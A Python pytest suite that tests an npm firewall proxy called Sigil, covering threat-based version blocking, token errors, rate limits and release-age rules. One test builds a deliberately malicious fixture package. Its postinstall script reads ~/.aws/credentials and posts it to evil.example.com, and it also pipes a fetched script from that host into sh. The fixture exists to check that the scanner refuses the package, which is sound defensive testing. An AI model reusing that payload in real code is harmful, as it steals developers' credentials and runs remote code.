"""The real npm against the proxy (/npm/) on a live server, with the fake npm registry on loopback.
npm is configured by a temporary userconfig and HOME only, never the global config. npm fetches with
its default parallel sockets: the embedded pass's SQLite test database is a WAL file with IMMEDIATE
transactions, so parallel first downloads queue for the write lock instead of failing."""
import dataclasses
import json
import subprocess
from datetime import timedelta

import pytest
from django.utils import timezone

from accounts.constants import TIER_LIMITS, Tier
from firewall.services import firewall_settings_update, install_token_create, install_token_revoke
from marketplace.models import Verification
from tests.fakes.servers import FakeNpm, make_targz
from tests.intel.factories import make_threat

pytestmark = pytest.mark.django_db(transaction=True)
ABBREVIATED = "application/vnd.npm.install-v1+json"


def tgz(name: str, version: str, dependencies: dict | None = None) -> bytes:
    pkg = {"name": name, "version": version, "main": "index.js", "dependencies": dependencies or {}}
    return make_targz({"package.json": json.dumps(pkg), "index.js": f"module.exports = {json.dumps(version)};\n"},
                      root="package")


@pytest.fixture
def registry(settings, allow):
    packages = {
        "app-js": {"versions": {"1.0.0": tgz("app-js", "1.0.0", {"dep-js": "^1.0.0"})}, "latest": "1.0.0",
                   "npm_user": "dev", "dependencies": {"1.0.0": {"dep-js": "^1.0.0"}}},
        "dep-js": {"versions": {"1.0.0": tgz("dep-js", "1.0.0"), "1.1.0": tgz("dep-js", "1.1.0")},
                   "latest": "1.1.0", "npm_user": "dev"},
        "@acme/scoped": {"versions": {"2.0.0": tgz("@acme/scoped", "2.0.0")}, "latest": "2.0.0", "npm_user": "dev"},
    }
    with FakeNpm(packages) as server:
        allow(server)
        settings.NPM_REGISTRY_URL = server.url
        yield server


def run_npm(live_url: str, token: str | None, *args: str, tmp_path) -> subprocess.CompletedProcess:
    registry = f"{live_url}/npm/"
    npmrc = tmp_path / "npmrc"
    lines = [f"registry={registry}", "audit=false", "fund=false", "update-notifier=false"]
    if token:
        lines.append(f"//{registry.split('://', 1)[1]}:_authToken={token}")
    npmrc.write_text("\n".join(lines) + "\n")
    project = tmp_path / "project"
    project.mkdir(exist_ok=True)
    (project / "package.json").write_text('{"name": "t", "version": "1.0.0", "private": true}')
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "npm_config_userconfig": str(npmrc),
           "npm_config_globalconfig": str(tmp_path / "no-global-npmrc"), "npm_config_cache": str(tmp_path / "cache")}
    return subprocess.run(["npm", "install", "--no-audit", "--no-fund", "--fetch-retries=0", *args], cwd=project,
                          env=env, capture_output=True, text=True, timeout=180)


def _installed(tmp_path, name):
    path = tmp_path / "project" / "node_modules" / name / "package.json"
    return json.loads(path.read_text())["version"] if path.exists() else None


def test_a_clean_tree_and_a_scoped_package_install(live_server, registry, alice, tmp_path):
    token = install_token_create(user=alice)[1]
    result = run_npm(live_server.url, token, "app-js", "@acme/scoped", tmp_path=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    assert _installed(tmp_path, "app-js") == "1.0.0" and _installed(tmp_path, "dep-js") == "1.1.0"
    assert _installed(tmp_path, "@acme/scoped") == "2.0.0"
    assert Verification.objects.filter(status="verified").count() == 3


def test_a_threatened_dependency_version_is_replaced_by_an_older_one(live_server, registry, alice, tmp_path, client):
    make_threat(versions=[("npm", "dep-js", "1.1.0")])
    token = install_token_create(user=alice)[1]
    doc = client.get("/npm/dep-js", HTTP_AUTHORIZATION=f"Bearer {token}", HTTP_ACCEPT=ABBREVIATED)
    assert doc["X-Sigil-Firewall-Removed"] == "threat=1" and doc.json()["dist-tags"]["latest"] == "1.0.0"
    assert "Blocked by Sigil" in doc.json()["versions"]["1.1.0"]["deprecated"]
    result = run_npm(live_server.url, token, "dep-js", tmp_path=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    assert _installed(tmp_path, "dep-js") == "1.0.0"
    assert not [r for r in registry.requests if r["path"].endswith("dep-js-1.1.0.tgz")]


def test_a_pinned_threatened_version_fails_naming_sigil(live_server, registry, alice, tmp_path):
    threat = make_threat(versions=[("npm", "dep-js", "1.1.0")])
    token = install_token_create(user=alice)[1]
    result = run_npm(live_server.url, token, "dep-js@1.1.0", tmp_path=tmp_path)
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "403" in output and "Blocked by Sigil" in output, output
    assert threat.reference in output
    assert _installed(tmp_path, "dep-js") is None


def test_an_integrity_mismatch_is_refused(live_server, registry, alice, tmp_path):
    registry.bad_integrity.add(("dep-js", "1.1.0"))
    token = install_token_create(user=alice)[1]
    result = run_npm(live_server.url, token, "dep-js@1.1.0", tmp_path=tmp_path)
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "does not match" in output, output


def test_no_token_is_a_401_npm_reports(live_server, registry, tmp_path):
    result = run_npm(live_server.url, None, "dep-js", tmp_path=tmp_path)
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "E401" in output, output
    assert 'realm="Sigil firewall", error_description="an install token is required' in output, output
    assert "npm login" not in output  # npm's own advice for registries it can log in to


def test_a_revoked_token_is_a_401_npm_reports(live_server, registry, alice, tmp_path):
    row, token = install_token_create(user=alice)
    install_token_revoke(user=alice, public_id=row.public_id)
    result = run_npm(live_server.url, token, "dep-js", tmp_path=tmp_path)
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "E401" in output, output
    assert 'realm="Sigil firewall", error_description="the install token is invalid or revoked"' in output, output
    assert _installed(tmp_path, "dep-js") is None and not registry.requests


def test_over_the_rate_limit_npm_reports_the_429_naming_sigil(live_server, registry, alice, tmp_path, monkeypatch):
    monkeypatch.setitem(TIER_LIMITS, Tier.PRO, dataclasses.replace(TIER_LIMITS[Tier.PRO], proxy_requests_per_minute=1))
    token = install_token_create(user=alice)[1]
    result = run_npm(live_server.url, token, "dep-js@1.0.0", tmp_path=tmp_path)  # document, then the tarball
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "429" in output and "Sigil firewall: rate limit of 1 requests" in output, output
    assert _installed(tmp_path, "dep-js") is None
    assert not [r for r in registry.requests if r["path"].endswith(".tgz")]


def test_the_npmrc_that_sigil_firewall_setup_writes_routes_npm_through_the_proxy(live_server, registry, alice,
                                                                                 tmp_path):
    from tests.cli.conftest import Sigil

    cli = Sigil(tmp_path / "home", live_server.url)
    cli.env_extra = {"HOME": str(tmp_path), "XDG_CONFIG_HOME": str(tmp_path / "config")}
    cli.login("alice@example.com")
    assert cli("firewall", "setup", "npm", "--write").returncode == 0
    project = tmp_path / "project"
    project.mkdir()
    (project / "package.json").write_text('{"name": "t", "version": "1.0.0", "private": true}')
    # Only ~/.npmrc (what setup wrote) names the registry and the token.
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "npm_config_cache": str(tmp_path / "cache"),
           "npm_config_globalconfig": str(tmp_path / "no-global-npmrc")}
    result = subprocess.run(["npm", "install", "--no-audit", "--no-fund", "--fetch-retries=0", "dep-js"], cwd=project,
                            env=env, capture_output=True, text=True, timeout=180)
    assert result.returncode == 0, result.stdout + result.stderr
    assert _installed(tmp_path, "dep-js") == "1.1.0"
    assert Verification.objects.get(status="verified").source_ref.endswith("dep-js-1.1.0.tgz")


def test_a_threatened_transitive_dependency_blocks_the_install_and_is_never_downloaded(live_server, registry,
                                                                                     alice, tmp_path):
    # app-js depends on dep-js ^1.0.0, a range that admits the threatened 1.1.0: app-js's own
    # verification fails it (the marketplace's dependency check, README "Payload in a dependency").
    threat = make_threat(versions=[("npm", "dep-js", "1.1.0")])
    result = run_npm(live_server.url, install_token_create(user=alice)[1], "app-js", tmp_path=tmp_path)
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "403 Blocked by Sigil: failed verification" in output, output
    parent = Verification.objects.get(source_ref__endswith="app-js-1.0.0.tgz")
    assert parent.status == "failed" and threat.reference in str(parent.details.get("dependency_threats")), output
    assert not [r for r in registry.requests if r["path"].endswith("dep-js-1.1.0.tgz")]
    assert _installed(tmp_path, "app-js") is None and _installed(tmp_path, "dep-js") is None


def test_a_dependency_failing_verification_is_refused(live_server, registry, alice, tmp_path):
    from django.core.management import call_command

    call_command("load_signature_pack", verbosity=0)
    evil = ("const fs = require('fs'), os = require('os'), https = require('https');\n"
            "const data = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');\n"
            "const req = https.request({hostname: 'evil.example.com', path: '/collect', method: 'POST'});\n"
            "req.write(Buffer.from(data).toString('base64')); req.end();\n"
            "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n"
            "require('child_process').exec('curl https://evil.example.com/x.sh | sh');\n")
    pkg = {"name": "dep-js", "version": "1.1.0", "main": "index.js",
           "scripts": {"postinstall": "node index.js"}}
    registry.packages["dep-js"]["versions"]["1.1.0"] = make_targz(
        {"package.json": json.dumps(pkg), "index.js": evil}, root="package")
    result = run_npm(live_server.url, install_token_create(user=alice)[1], "app-js", tmp_path=tmp_path)
    output = result.stdout + result.stderr
    verification = Verification.objects.get(source_ref__endswith="dep-js-1.1.0.tgz")
    assert verification.status == "failed", (verification.status, verification.verdict, verification.error)
    assert result.returncode != 0 and "Blocked by Sigil" in output and verification.public_id in output, output
    assert _installed(tmp_path, "dep-js") is None


def test_min_release_age_hides_a_too_new_version(live_server, registry, alice, tmp_path):
    now = timezone.now()
    registry.packages["dep-js"]["times"] = {"1.0.0": (now - timedelta(days=30)).isoformat(),
                                            "1.1.0": (now - timedelta(hours=1)).isoformat()}
    firewall_settings_update(user=alice, min_release_age_hours=48)
    result = run_npm(live_server.url, install_token_create(user=alice)[1], "dep-js", tmp_path=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    assert _installed(tmp_path, "dep-js") == "1.0.0"
    assert not [r for r in registry.requests if r["path"].endswith("dep-js-1.1.0.tgz")]
